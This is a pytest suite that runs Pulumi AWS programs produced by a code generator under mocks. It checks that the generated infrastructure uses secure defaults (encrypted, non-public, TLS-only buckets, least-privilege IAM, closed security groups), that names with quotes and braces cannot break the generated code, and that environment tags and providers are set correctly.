"""Every generated Pulumi program of every example, run under ``pulumi.runtime.set_mocks``.

Each program runs in its own Python process, from its own directory, exactly as ``pulumi up``
would start it: ``glacier_aws`` and ``glacier`` are the copies vendored beside ``__main__.py``
(the test asserts so). The recorder (``tests/_pulumi_mocks.py``) answers with computed outputs
(``arn``, ``bucket`` ...) and returns only after every registration and apply finished, so the
assertions below see the final resources, not a half-built program.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import sysconfig
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from _codegen_support import write_files

from analyzer import analyze
from codegen.aws import emit_programs
from codegen.aws._infra import DEFAULT_ENV
from codegen.aws._program import component_name
from glacier.model import DatasetModel, PipelineModel
from glacier.storage.kinds import BUCKET_ACCESS, OBJECT_EXTENSIONS

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ["layer1_local.py", "layer2_environments.py", "layer3_raw_pulumi.py", "orders"]
TAGGED = ("glacier:environment", "managed-by")


# Run with `python -S`: no .pth files, so the editable install of glacier is invisible and the
# program can only use what a deploy machine has, pulumi's packages and its own directory.
_RUNNER = r"""
import json, os, runpy, sys
program_dir, tests_dir, config_file = sys.argv[1], sys.argv[2], sys.argv[3]
sys.path.extend(sys.argv[6:])
try:
    import codegen
except ImportError:
    pass
else:
    raise SystemExit("the installed glacier is visible: the test would prove nothing")
sys.path.insert(0, tests_dir)
os.chdir(program_dir)
sys.path.insert(0, program_dir)
import pulumi
from _pulumi_mocks import RecordingMocks, run_program

with open(config_file, encoding="utf-8") as fh:
    config, secrets = json.load(fh)
pulumi.runtime.set_all_config(config, secrets)
mocks = RecordingMocks()
run = run_program(
    lambda: runpy.run_path(os.path.join(program_dir, "__main__.py"), run_name="__main__"),
    mocks=mocks,
    project=sys.argv[4],
    stack=sys.argv[5],
)
import glacier, glacier_aws
out = {
    "vendored": [glacier.__file__, glacier_aws.__file__],
    "exports": run.exports,
    "resources": [
        {
            "type": r.type, "name": r.name, "inputs": r.inputs, "outputs": r.outputs,
            "urn": r.urn, "provider": r.provider_urn, "custom": r.custom,
            "protect": r.protect, "retain_on_delete": r.retain_on_delete,
        }
        for r in run.resources
    ],
    "calls": [[token, args] for token, args in mocks.calls],
}
print(json.dumps(out, default=repr))
"""


@dataclass
class Program:
    example: str
    env: str
    model: PipelineModel
    directory: Path
    files: dict[str, bytes]
    resources: list[dict[str, Any]]
    exports: dict[str, Any]
    vendored: list[str]
    stack_config: dict[str, Any]
    calls: list[tuple[str, dict[str, Any]]]

    @property
    def deploys(self) -> bool:
        return (self.directory / "statemachine.asl.json").exists()

    def of_type(self, token: str) -> list[dict[str, Any]]:
        return [r for r in self.resources if r["type"] == token]

    def by_urn(self, urn: str) -> dict[str, Any]:
        return next(r for r in self.resources if r["urn"] == urn)

    def named(self, token: str, name: str) -> dict[str, Any]:
        found = [r for r in self.of_type(token) if r["name"] == name]
        assert len(found) == 1, f"expected one {token} {name!r}, found {len(found)}"
        return found[0]


def _config_for(stack: dict[str, Any]) -> tuple[dict[str, str], list[str]]:
    config = {
        key: value if isinstance(value, str) else json.dumps(value)
        for key, value in (stack.get("config") or {}).items()
    }
    # What a deployer sets with `pulumi config set` (see the comments in __main__.py).
    config["glacier:subnets"] = json.dumps(["subnet-0a1b2c3d", "subnet-4e5f6a7b"])
    config["glacier:databaseUrl"] = "postgresql://glacier@db.internal:5432/orders"
    return config, ["glacier:databaseUrl"]


def _run(directory: Path, project: str, stack: str, tmp: Path) -> dict[str, Any]:
    stack_config = yaml.safe_load((directory / f"Pulumi.{stack}.yaml").read_text())
    config_file = tmp / f"config-{project}-{stack}.json"
    config_file.write_text(json.dumps(_config_for(stack_config)))
    result = subprocess.run(
        [
            sys.executable,
            "-S",
            "-c",
            _RUNNER,
            str(directory),
            str(ROOT / "tests"),
            str(config_file),
            project,
            stack,
            *sorted({sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        cwd=directory,
    )
    assert result.returncode == 0, result.stderr[-4000:]
    data: dict[str, Any] = json.loads(result.stdout.strip().splitlines()[-1])
    data["stack_config"] = stack_config
    return data


@pytest.fixture(scope="session")
def programs(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], Program]:
    """Build every example and run every program once; tests share the recorded runs."""
    out = tmp_path_factory.mktemp("programs")
    found: dict[tuple[str, str], Program] = {}
    for example in EXAMPLES:
        analysis = analyze([str(ROOT / "examples" / example)])
        (model,) = analysis.pipelines
        files = emit_programs(analysis, model)
        base = out / example.replace(".py", "")
        write_files(files, base)
        envs = sorted({p.split("/")[1] for p in files})
        for env in envs:
            directory = base / "pulumi" / env
            project = yaml.safe_load((directory / "Pulumi.yaml").read_text())["name"]
            data = _run(directory, project, env, out)
            found[(example, env)] = Program(
                example,
                env,
                model,
                directory,
                {p: b for p, b in files.items() if p.startswith(f"pulumi/{env}/")},
                data["resources"],
                data["exports"],
                data["vendored"],
                data["stack_config"],
                [(token, args) for token, args in data["calls"]],
            )
    return found


def _each(programs: dict[tuple[str, str], Program]) -> Iterator[Program]:
    assert programs
    yield from programs.values()


EXPECTED_PROGRAMS = {
    ("layer1_local.py", DEFAULT_ENV),
    ("layer2_environments.py", "dev"),
    ("layer2_environments.py", "prod"),
    ("layer3_raw_pulumi.py", DEFAULT_ENV),
    ("orders", DEFAULT_ENV),
}


def test_one_program_per_environment(programs: dict[tuple[str, str], Program]) -> None:
    assert set(programs) == EXPECTED_PROGRAMS
    deploying = {key for key, p in programs.items() if p.deploys}
    assert deploying == EXPECTED_PROGRAMS - {("layer2_environments.py", "dev")}


def test_every_example_is_covered() -> None:
    """The AWS tests name the examples: a new example must join every list ("every example")."""
    import ast

    examples = ROOT / "examples"
    found = sorted(
        p.name for p in examples.iterdir() if p.suffix == ".py" or (p / "__init__.py").is_file()
    )
    tests = Path(__file__).parent
    for name in ("asl", "aws_program", "aws_program_mypy", "aws_program_snapshots", "handler"):
        tree = ast.parse((tests / f"test_{name}.py").read_text(encoding="utf-8"))
        (listed,) = [
            ast.literal_eval(node.value)
            for node in tree.body
            if isinstance(node, ast.Assign)
            and [getattr(t, "id", None) for t in node.targets] == ["EXAMPLES"]
        ]
        assert sorted(listed) == found, name


def test_programs_run_the_vendored_glacier_aws(programs: dict[tuple[str, str], Program]) -> None:
    for program in _each(programs):
        for module in program.vendored:
            assert Path(module).resolve().is_relative_to(program.directory.resolve()), module


def test_one_function_or_task_definition_per_task(
    programs: dict[tuple[str, str], Program],
) -> None:
    for program in _each(programs):
        functions = program.of_type("aws:lambda/function:Function")
        definitions = program.of_type("aws:ecs/taskDefinition:TaskDefinition")
        if not program.deploys:
            assert not functions and not definitions
            assert not program.of_type("aws:sfn/stateMachine:StateMachine")
            continue
        model = program.model
        assert len(functions) + len(definitions) == len(model.tasks)
        for task in model.tasks:
            prefix = component_name(model.name, task.name)
            container = task.compute is not None and task.compute.kind == "container"
            if container:
                definition = program.named(
                    "aws:ecs/taskDefinition:TaskDefinition", f"{prefix}-task"
                )
                (container_def,) = json.loads(definition["inputs"]["containerDefinitions"])
                assert container_def["image"] == (
                    task.compute.image or _built_image(program)  # type: ignore[union-attr]
                )
                assert container_def["command"] == ["python", "-m", "glacier_handler", task.name]
                assert definition["inputs"]["cpu"] == str(task.compute.cpu)  # type: ignore[union-attr]
            else:
                function = program.named("aws:lambda/function:Function", f"{prefix}-function")
                inputs = function["inputs"]
                assert inputs["runtime"] in ("python3.12", "python3.13")
                assert inputs["handler"] == "glacier_handler.handler"
                assert inputs["tracingConfig"] == {"mode": "Active"}
                memory = task.compute.memory_mb if task.compute else 512
                assert inputs["memorySize"] == memory
                variables = inputs["environment"]["variables"]
                assert variables["GLACIER_TASK"] == task.name


def _built_image(program: Program) -> str:
    """``<repository URL>@<digest>`` of the one image the program builds and pushes."""
    (repository,) = program.of_type("aws:ecr/repository:Repository")
    (image,) = program.of_type("docker-build:index:Image")
    return f"{repository['outputs']['repositoryUrl']}@{image['outputs']['digest']}"


def test_container_tasks_run_the_image_the_program_builds(
    programs: dict[tuple[str, str], Program],
) -> None:
    """`Container()` without `image=`: bundle/ built with its Dockerfile, pushed to the
    pipeline's ECR repository, and run by digest; the execution role pulls only from it."""
    from codegen.aws._bundle import BASE_IMAGE

    program = programs[("orders", DEFAULT_ENV)]
    (repository,) = program.of_type("aws:ecr/repository:Repository")
    inputs = repository["inputs"]
    assert inputs["name"] == "glacier/default/orders-image"
    assert inputs["imageTagMutability"] == "IMMUTABLE"
    assert inputs["imageScanningConfiguration"] == {"scanOnPush": True}
    assert inputs["encryptionConfigurations"] == [{"encryptionType": "AES256"}]
    assert {"glacier:environment", "managed-by"} <= set(inputs["tags"])
    (lifecycle,) = program.of_type("aws:ecr/lifecyclePolicy:LifecyclePolicy")
    assert lifecycle["inputs"]["repository"] == inputs["name"]
    (rule,) = json.loads(lifecycle["inputs"]["policy"])["rules"]
    assert rule["selection"]["countType"] == "imageCountMoreThan"
    assert rule["selection"]["countNumber"] == 10
    assert rule["action"] == {"type": "expire"}

    (image,) = program.of_type("docker-build:index:Image")
    built = image["inputs"]
    url = repository["outputs"]["repositoryUrl"]
    assert url == "123456789012.dkr.ecr.us-east-1.amazonaws.com/glacier/default/orders-image"
    assert built["push"] is True and built["platforms"] == ["linux/amd64"]
    assert built["context"] == {"location": "./bundle"}
    assert built["dockerfile"] == {"location": "./bundle/Dockerfile"}
    (tag,) = built["tags"]
    assert tag.startswith(url + ":") and len(tag) == len(url) + 33  # the bundle's content hash
    (registry,) = built["registries"]
    assert (registry["address"], registry["username"]) == (url, "AWS")
    assert registry["password"] == "mock-ecr-password"

    definition = program.named(
        "aws:ecs/taskDefinition:TaskDefinition", "orders-rank_customers-task"
    )
    (container,) = json.loads(definition["inputs"]["containerDefinitions"])
    assert container["image"] == f"{url}@{image['outputs']['digest']}"
    assert definition["inputs"]["runtimePlatform"]["cpuArchitecture"] == "X86_64"
    policy = program.named(
        "aws:iam/rolePolicy:RolePolicy", "orders-rank_customers-execution-policy"
    )
    statements = {s["Sid"]: s for s in json.loads(policy["inputs"]["policy"])["Statement"]}
    assert statements["RegistryToken"]["Action"] == ["ecr:GetAuthorizationToken"]
    assert statements["RegistryToken"]["Resource"] == "*"
    assert statements["PullImage"]["Resource"] == [repository["outputs"]["arn"]]
    assert repository["outputs"]["arn"] == (
        "arn:aws:ecr:us-east-1:123456789012:repository/glacier/default/orders-image"
    )

    dockerfile = program.files["pulumi/default/bundle/Dockerfile"].decode()
    assert f"ARG BASE={BASE_IMAGE}\n" in dockerfile and "COPY . /var/task\n" in dockerfile
    requirements = program.files["pulumi/default/requirements.txt"].decode()
    assert "pulumi-docker-build==0.0.22" in requirements.splitlines()


def test_programs_without_a_built_image_do_not_need_docker_build(
    programs: dict[tuple[str, str], Program],
) -> None:
    for program in _each(programs):
        if program.example == "orders":
            continue
        assert not program.of_type("docker-build:index:Image")
        main_py = program.files[f"pulumi/{program.env}/__main__.py"].decode()
        requirements = program.files[f"pulumi/{program.env}/requirements.txt"].decode()
        assert "ContainerImage" not in main_py and "pulumi-docker-build" not in requirements


def _taggable(token: str) -> bool:
    from _pulumi_mocks import is_taggable

    return token.startswith("aws:") and is_taggable(token)


def test_every_taggable_resource_carries_the_environment_tags(
    programs: dict[tuple[str, str], Program],
) -> None:
    for program in _each(programs):
        wanted = {"glacier:environment": program.env, "managed-by": "glacier"}
        stack_tags = program.stack_config["config"]["aws:defaultTags"]["tags"]
        assert stack_tags.items() >= wanted.items()
        checked = 0
        for resource in program.resources:
            if not resource["custom"] or not _taggable(resource["type"]):
                continue
            checked += 1
            tags = resource["inputs"].get("tags") or {}
            if resource["provider"]:
                provider = program.by_urn(resource["provider"])
                default_tags = json.loads(provider["inputs"].get("defaultTags") or "{}")
                tags = {**(default_tags.get("tags") or {}), **tags}
            elif "glacier:aws:" not in resource["urn"]:
                # the user's raw resources with the default provider: the stack's default tags
                tags = {**stack_tags, **tags}
            assert tags.items() >= wanted.items(), (program.env, resource["type"], resource["name"])
        assert checked > 0


def _companions(program: Program, token: str, bucket: str) -> list[dict[str, Any]]:
    return [r for r in program.of_type(token) if r["inputs"].get("bucket") == bucket]


def _secure_bucket_problems(program: Program, bucket: dict[str, Any]) -> list[str]:
    name = bucket["outputs"]["bucket"]
    problems = []
    blocks = _companions(program, "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", name)
    flags = ("blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets")
    if len(blocks) != 1 or not all(blocks[0]["inputs"].get(f) is True for f in flags):
        problems.append("public access block")
    token = "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration"
    if len(_companions(program, token, name)) != 1:
        problems.append("encryption")
    ownership = _companions(program, "aws:s3/bucketOwnershipControls:BucketOwnershipControls", name)
    if len(ownership) != 1 or ownership[0]["inputs"]["rule"]["objectOwnership"] != (
        "BucketOwnerEnforced"
    ):
        problems.append("ownership controls")
    policies = _companions(program, "aws:s3/bucketPolicy:BucketPolicy", name)
    tls_only = False
    if len(policies) == 1:
        document = json.loads(policies[0]["inputs"]["policy"])
        arn = bucket["outputs"]["arn"]
        for statement in document["Statement"]:
            if (
                statement["Effect"] == "Deny"
                and statement["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
                and set(statement["Resource"]) == {arn, f"{arn}/*"}
            ):
                tls_only = True
    if not tls_only:
        problems.append("TLS-only policy")
    return problems


def test_every_bucket_has_the_secure_defaults(programs: dict[tuple[str, str], Program]) -> None:
    for program in _each(programs):
        buckets = program.of_type("aws:s3/bucket:Bucket")
        if program.deploys:
            assert buckets, "at least the scratch bucket"
        failing = {b["outputs"]["bucket"] for b in buckets if _secure_bucket_problems(program, b)}
        # Glacier copies user infrastructure verbatim and adds nothing to it, so the layer-3
        # example secures its raw buckets itself; `glacier plan` warns about any that do not.
        assert not failing, {b["name"]: _secure_bucket_problems(program, b) for b in buckets}


def test_every_bucket_of_an_environment_logs_its_accesses_outside_dev(
    programs: dict[tuple[str, str], Program],
) -> None:
    """S3.9: in `prod` the data bucket, the scratch bucket (and the artifacts bucket, were the
    bundle over Lambda's upload quota) log to the environment's log bucket, which does not
    log into itself; `dev` makes neither logs nor a log bucket."""
    logging_token = "aws:s3/bucketLogging:BucketLogging"
    prod = programs[("layer2_environments.py", "prod")]
    buckets = {b["name"]: b for b in prod.of_type("aws:s3/bucket:Bucket")}
    assert set(buckets) == {"prod-access-logs", "prod-data", "sales-scratch"}
    logs = buckets.pop("prod-access-logs")
    logged = {r["inputs"]["bucket"]: r["inputs"] for r in prod.of_type(logging_token)}
    assert logged == {
        b["outputs"]["bucket"]: {
            "bucket": b["outputs"]["bucket"],
            "targetBucket": logs["outputs"]["bucket"],
            "targetPrefix": f"{name}/",
        }
        for name, b in buckets.items()
    }
    dev = programs[("layer2_environments.py", "dev")]
    assert not dev.of_type(logging_token)
    assert [b["name"] for b in dev.of_type("aws:s3/bucket:Bucket")] == ["dev-data"]


def _ecs_networks(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        if str(node.get("Resource", "")).startswith("arn:aws:states:::ecs:runTask"):
            yield node["Parameters"]["NetworkConfiguration"]["AwsvpcConfiguration"]
        for value in node.values():
            yield from _ecs_networks(value)
    elif isinstance(node, list):
        for value in node:
            yield from _ecs_networks(value)


def test_no_fargate_task_runs_in_the_vpc_default_security_group(
    programs: dict[tuple[str, str], Program],
) -> None:
    """EC2.2 keeps a VPC's default security group closed; a Fargate task given no group would
    run in it, unable to pull its image. Each runs with an egress-only group of the program's;
    the database admits only the group of the tasks that touch it."""
    checked = 0
    for program in _each(programs):
        groups = {
            g["outputs"]["id"]: g for g in program.of_type("aws:ec2/securityGroup:SecurityGroup")
        }
        admitted = {
            r["inputs"]["referencedSecurityGroupId"]
            for r in program.of_type("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule")
        }
        for machine in program.of_type("aws:sfn/stateMachine:StateMachine"):
            for network in _ecs_networks(json.loads(machine["inputs"]["definition"])):
                (group,) = network["SecurityGroups"]
                assert group in groups
                egress = [
                    r["inputs"]
                    for r in program.of_type(
                        "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule"
                    )
                    if r["inputs"]["securityGroupId"] == group
                ]
                assert [(e["ipProtocol"], e["cidrIpv4"]) for e in egress] == [("-1", "0.0.0.0/0")]
                assert not [
                    r
                    for r in program.of_type(
                        "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"
                    )
                    if r["inputs"]["securityGroupId"] == group
                ]
                checked += 1
        container_group = [g for g in groups.values() if g["name"].endswith("-containers-tasks")]
        assert not {g["outputs"]["id"] for g in container_group} & admitted
    # the orders example's Fargate task (a Fargate task with a table: the RDS test below)
    assert checked >= 1


ACCOUNT_WIDE = (
    "aws:s3/accountPublicAccessBlock:",
    "aws:ec2/defaultSecurityGroup:",
    "aws:ec2/defaultVpc:",
    "aws:ec2/defaultNetworkAcl:",
    "aws:iam/user",
    "aws:iam/accessKey:",
    "aws:iam/group",
    "aws:iam/policy:",
    "aws:iam/accountPasswordPolicy:",
    "aws:cloudtrail/",
    "aws:guardduty/",
    "aws:cfg/",
    "aws:securityhub/",
)
"""Resource types that configure the account rather than a program (their controls are the
account's business, docs/deploy-aws.md)."""


def test_programs_make_no_account_wide_resources(
    programs: dict[tuple[str, str], Program],
) -> None:
    for program in _each(programs):
        made = sorted({r["type"] for r in program.resources if r["type"].startswith(ACCOUNT_WIDE)})
        assert made == [], (program.example, program.env)


def test_no_bucket_policy_allows_a_public_principal(
    programs: dict[tuple[str, str], Program],
) -> None:
    """S3.1 (the account's public access block) can be on: the only `*` principal in a bucket
    policy Glacier writes is the TLS-only Deny; every Allow names an AWS service."""
    allowed = 0
    for program in _each(programs):
        for policy in program.of_type("aws:s3/bucketPolicy:BucketPolicy"):
            for statement in json.loads(policy["inputs"]["policy"])["Statement"]:
                if statement["Effect"] == "Deny":
                    continue
                allowed += 1
                assert set(statement["Principal"]) == {"Service"}, policy["name"]
                assert statement["Principal"]["Service"].endswith(".amazonaws.com")
                assert statement["Condition"]["StringEquals"]["aws:SourceAccount"]
    assert allowed >= 1  # the access log bucket's delivery grant


def test_no_deprecated_resource_types_or_inputs(programs: dict[tuple[str, str], Program]) -> None:
    deprecated_bucket_inputs = {
        "versioning",
        "acl",
        "grants",
        "lifecycleRules",
        "serverSideEncryptionConfiguration",
        "replicationConfiguration",
        "website",
        "loggings",
        "policy",
    }
    for program in _each(programs):
        assert not program.of_type("aws:s3/bucketV2:BucketV2")
        for bucket in program.of_type("aws:s3/bucket:Bucket"):
            assert not deprecated_bucket_inputs & set(bucket["inputs"]), bucket["name"]
        for role in program.of_type("aws:iam/role:Role"):
            assert "inlinePolicies" not in role["inputs"], role["name"]
            assert "managedPolicyArns" not in role["inputs"], role["name"]


def _bucket_name(program: Program, dataset: DatasetModel) -> str:
    storage = dataset.storage
    if storage is None:
        scratch = program.named(
            "aws:s3/bucket:Bucket", component_name(program.model.name, "scratch")
        )
        return str(scratch["outputs"]["bucket"])
    if storage.kind in ("object", "s3"):
        assert storage.bucket is not None
        return storage.bucket
    resource = program.named("aws:s3/bucket:Bucket", str(storage.name))
    return str(resource["outputs"]["bucket"])


def _is_table(dataset: DatasetModel) -> bool:
    storage = dataset.storage
    return storage is not None and (
        storage.kind in ("database", "rds") or str(storage.resource).startswith("pulumi_aws.rds.")
    )


def _keys(dataset: DatasetModel) -> str:
    if dataset.storage is None:
        return f"*/{dataset.name}."
    parts = [p for p in dataset.storage.prefix.split("/") if p and p != "."]
    return "".join(p + "/" for p in parts) + dataset.name + "."


def _object_keys(base: str) -> list[str]:
    """A dataset's object ARNs from ``arn:aws:s3:::<bucket>/<prefix>/<dataset>``: one per
    extension the I/O layer writes, in its order (never ``<dataset>.*``)."""
    return [base + ext for ext in OBJECT_EXTENSIONS]


def _exact_keys(bucket: str, dataset: DatasetModel) -> set[str]:
    """The grant on a dataset's objects: one key per extension, never ``<dataset>.*``."""
    return {f"arn:aws:s3:::{bucket}/{_keys(dataset)[:-1]}{ext}" for ext in OBJECT_EXTENSIONS}


def test_task_roles_allow_exactly_their_own_datasets(
    programs: dict[tuple[str, str], Program],
) -> None:
    checked = 0
    for program in _each(programs):
        if not program.deploys:
            continue
        model = program.model
        for task in model.tasks:
            prefix = component_name(model.name, task.name)
            policy = program.named("aws:iam/rolePolicy:RolePolicy", f"{prefix}-policy")
            document = json.loads(policy["inputs"]["policy"])
            expected: dict[str, set[str]] = {"s3:GetObject": set(), "s3:ListBucket": set()}
            for write in ("s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload"):
                expected[write] = set()
            prefixes: set[str] = set()
            for name in [i.dataset for i in task.inputs]:
                dataset = model.dataset(name)
                if _is_table(dataset):
                    continue
                bucket = _bucket_name(program, dataset)
                expected["s3:GetObject"] |= _exact_keys(bucket, dataset)
                expected["s3:ListBucket"].add(f"arn:aws:s3:::{bucket}")
                prefixes.add(_keys(dataset))
            for name in task.outputs:
                dataset = model.dataset(name)
                if _is_table(dataset):
                    continue
                bucket = _bucket_name(program, dataset)
                for write in ("s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload"):
                    expected[write] |= _exact_keys(bucket, dataset)
                # listed before a write: only existing stale siblings are deleted
                expected["s3:ListBucket"].add(f"arn:aws:s3:::{bucket}")
                prefixes.add(_keys(dataset))
            granted: dict[str, set[str]] = {action: set() for action in expected}
            listed_prefixes: set[str] = set()
            for statement in document["Statement"]:
                actions = statement["Action"]
                actions = [actions] if isinstance(actions, str) else actions
                data_actions = [a for a in actions if a.startswith("s3:")]
                if not data_actions:
                    continue
                resources = statement["Resource"]
                resources = [resources] if isinstance(resources, str) else resources
                assert "*" not in resources and statement["Effect"] == "Allow"
                for action in data_actions:
                    assert action in granted, action
                    granted[action] |= set(resources)
                if "s3:ListBucket" in data_actions:
                    listed_prefixes |= set(statement["Condition"]["StringLike"]["s3:prefix"])
            assert granted == expected, (program.example, task.name)
            assert listed_prefixes == prefixes, (program.example, task.name)
            checked += 1
    assert checked == sum(len(p.model.tasks) for p in programs.values() if p.deploys)


def _function_names(node: Any) -> set[str]:
    """Every ``FunctionName`` in a state machine definition."""
    if isinstance(node, dict):
        found = {node["FunctionName"]} if "FunctionName" in node else set()
        for value in node.values():
            found |= _function_names(value)
        return found
    if isinstance(node, list):
        return set().union(*(_function_names(v) for v in node)) if node else set()
    return set()


def test_state_machine_runs_the_deployed_tasks(programs: dict[tuple[str, str], Program]) -> None:
    for program in _each(programs):
        if not program.deploys:
            continue
        (machine,) = program.of_type("aws:sfn/stateMachine:StateMachine")
        text = machine["inputs"]["definition"]
        assert "${" not in text
        definition = json.loads(text)
        functions = {f["outputs"]["arn"] for f in program.of_type("aws:lambda/function:Function")}
        named = _function_names(definition)
        assert named == functions
        assert machine["inputs"]["loggingConfiguration"]["level"] != "OFF"
        assert machine["inputs"]["tracingConfiguration"] == {"enabled": True}
        rules = program.of_type("aws:cloudwatch/eventRule:EventRule")
        if program.model.schedule:
            assert [r["inputs"]["scheduleExpression"] for r in rules] == [program.model.schedule]
        else:
            assert not rules
        for group in program.of_type("aws:cloudwatch/logGroup:LogGroup"):
            assert group["inputs"]["retentionInDays"] > 0


def test_exports_name_the_state_machine_and_every_bucket(
    programs: dict[tuple[str, str], Program],
) -> None:
    for program in _each(programs):
        if not program.deploys:
            assert program.exports == {}
            continue
        (machine,) = program.of_type("aws:sfn/stateMachine:StateMachine")
        assert program.exports["state_machine_arn"] == machine["outputs"]["arn"]
        buckets = program.exports["buckets"]
        for dataset in program.model.datasets:
            if dataset.storage is not None and not _is_table(dataset):
                assert buckets[dataset.name] == _bucket_name(program, dataset)
        scratch = program.named(
            "aws:s3/bucket:Bucket", component_name(program.model.name, "scratch")
        )
        assert buckets["glacier:scratch"] == scratch["outputs"]["bucket"]


def test_environment_programs_use_their_provider(programs: dict[tuple[str, str], Program]) -> None:
    environments = {
        "prod": ("us-east-1", "123456789012"),
        "dev": ("us-west-2", "789012345678"),
    }
    for (example, env), program in programs.items():
        if env not in environments:
            continue
        region, account = environments[env]
        assert program.stack_config["config"]["aws:region"] == region
        assert program.stack_config["config"]["aws:allowedAccountIds"] == [account]
        custom = [r for r in program.resources if r["custom"] and r["type"].startswith("aws:")]
        assert custom
        for resource in custom:
            assert resource["provider"], (env, resource["type"], resource["name"])
            provider = program.by_urn(resource["provider"])
            assert provider["inputs"]["region"] == region
            assert json.loads(provider["inputs"]["allowedAccountIds"]) == [account]
        if env == "dev":
            (bucket,) = program.of_type("aws:s3/bucket:Bucket")
            assert bucket["inputs"]["bucket"] == "dev-data"


def test_raw_pulumi_statements_are_carried_verbatim(
    programs: dict[tuple[str, str], Program],
) -> None:
    program = programs[("layer3_raw_pulumi.py", DEFAULT_ENV)]
    main = (program.directory / "__main__.py").read_text()
    source = (ROOT / "examples" / "layer3_raw_pulumi.py").read_text()
    start = source.index('replica = aws.s3.Bucket("my-data-replica"')
    end = source.index("measurements = Dataset[")
    for statement in source[start:end].strip().split("\n\n"):
        assert statement.strip() in main
    assert "Dataset(" not in main and "Dataset[" not in main and "@pipeline" not in main
    replication = program.named(
        "aws:s3/bucketReplicationConfig:BucketReplicationConfig", "my-data-replication"
    )
    assert (
        replication["inputs"]["rules"][0]["destination"]["bucket"] == "arn:aws:s3:::my-data-replica"
    )
    role = program.named("aws:iam/role:Role", "my-data-replication")
    assert replication["inputs"]["role"] == role["outputs"]["arn"]


def test_pinned_versions_are_the_ones_tested() -> None:
    import importlib.metadata

    from codegen.aws._emit import PINNED

    for name, version in PINNED.items():
        assert importlib.metadata.version(name) == version, name


def test_build_emitter_matches_emit_programs() -> None:
    import glacier
    from codegen import build as build_artifacts
    from codegen.aws import TARGET

    analysis = analyze([str(ROOT / "examples")])
    artifacts, clashes = build_artifacts(
        analysis.pipelines,
        analysis.modules,
        out_dir=str(ROOT / "build"),
        version=glacier.__version__,
        targets=[TARGET],
        local=False,
    )
    assert not clashes
    by_name = {m.name: m for m in analysis.pipelines}
    for art in artifacts:
        expected = emit_programs(analysis, by_name[art.pipeline])
        assert art.files == expected


def _preview(files: dict[str, bytes], out: Path, env: str) -> list[dict[str, Any]]:
    """Write the programs under ``out`` and preview ``env``'s; its recorded resources."""
    write_files(files, out)
    result = subprocess.run(
        [sys.executable, "-m", "codegen.aws._preview", str(out / "pulumi" / env), env],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    preview: dict[str, Any] = json.loads(result.stdout.strip().splitlines()[-1])
    resources: list[dict[str, Any]] = preview["resources"]
    return resources


def test_names_and_strings_cannot_break_the_generated_code(tmp_path: Path) -> None:
    """Quotes, braces, backslashes and newlines in names stay data in every generated file."""
    import ast

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    nasty = 'we"ird {x} \\\\ \'name\' """'
    module = tmp_path / "nasty.py"
    module.write_text(
        "from glacier import Dataset, ObjectStorage, Pipeline\n\n"
        f"pipeline = Pipeline(name={nasty!r}, description={(nasty + ' desc')!r})\n"
        f"src = Dataset(name='src', storage=ObjectStorage(bucket='in-bucket', prefix={nasty!r}))\n"
        "out = Dataset(name='out')\n\n\n"
        f"@pipeline.task(name={(nasty + ' task')!r})\n"
        "def work(x: src) -> out:\n"
        "    return x\n"
    )
    analysis = analyze([str(module)])
    (model,) = analysis.pipelines
    assert model.name == nasty
    files = emit_programs(analysis, model)
    for path, data in files.items():
        text = data.decode("utf-8")
        if path.endswith(".py"):
            ast.parse(text, filename=path)
        elif path.endswith(".json"):
            json.loads(text)
        elif path.endswith(".yaml"):
            yaml.safe_load(text)
    main_py = files["pulumi/default/__main__.py"].decode()
    handler = files["pulumi/default/bundle/glacier_handler.py"].decode()
    for text, name in ((main_py, "GLACIER_PIPELINE"), (handler, "PIPELINE")):
        line = next(x for x in text.splitlines() if x.startswith(f"{name} = "))
        namespace: dict[str, Any] = {}
        exec(line, namespace)  # noqa: S102 - one generated literal assignment
        assert namespace[name] == model.name
    yaml_doc = yaml.safe_load(files["pulumi/default/Pulumi.yaml"])
    assert model.name in yaml_doc["description"]
    # ... and the program still runs: component names are sanitised, values stay values.
    resources = _preview(files, tmp_path / "build", "default")
    (function,) = [r for r in resources if r["type"] == "aws:lambda/function:Function"]
    assert function["inputs"]["environment"]["variables"]["GLACIER_TASK"] == nasty + " task"


def test_infrastructure_in_other_modules_is_carried_in_dependency_order(tmp_path: Path) -> None:
    """Environments and buckets defined in modules the pipeline imports (under other names)."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    package = tmp_path / "shop"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "envs.py").write_text(
        "from glacier_aws import Environment\n\n"
        'TEAM = {"team": "shop"}\n'
        'prod = Environment(account="123456789012", region="eu-west-1", name="prod", tags=TEAM)\n'
    )
    (package / "storage.py").write_text(
        "import pulumi\nimport pulumi_aws as aws\n\n"
        "from shop.envs import prod as production\n\n"
        'lake = production.s3(bucket="shop-lake")\n'
        'alerts = aws.sns.Topic("alerts", opts=pulumi.ResourceOptions(provider=production.provider))\n'
    )
    (package / "pipe.py").write_text(
        "from glacier import Dataset, Pipeline\nfrom shop.storage import lake\n\n"
        'pipeline = Pipeline(name="shop")\n'
        'orders = Dataset(name="orders", storage=lake)\n\n\n'
        "@pipeline.task()\ndef load() -> orders:\n    return [1, 2, 3]\n"
    )
    analysis = analyze([str(package)])
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
